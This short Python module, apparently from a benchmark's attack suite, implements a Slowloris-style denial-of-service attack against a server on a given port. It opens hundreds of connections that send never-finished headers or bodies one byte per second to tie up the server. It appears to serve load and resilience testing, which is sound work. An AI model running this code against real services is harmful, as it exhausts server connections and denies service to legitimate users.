"""Requests that are begun and never finished, on as many connections as the server takes."""

from __future__ import annotations

import asyncio
from typing import Final

from bench.attacks.attacker import Attacker, again_and_again

BESIDE: Final = 300
"""Connections at a time."""


async def attack(port: int, seconds: float) -> None:
    guest = Attacker(port)
    head = guest.head("POST", "/api/rules/check", Content_Type="application/json", Content_Length=60_000)

    async def half(part: bytes) -> None:
        async with guest.wire() as wire:
            await wire.send(part)
            while not wire.reader.at_eof():
                await wire.send(b"x")
                await asyncio.sleep(1)

    async def headers_or_body() -> None:
        await asyncio.gather(half(head[:-4] + b"\r\nX-More: "), half(head))

    await again_and_again(seconds, headers_or_body, beside=BESIDE // 2)
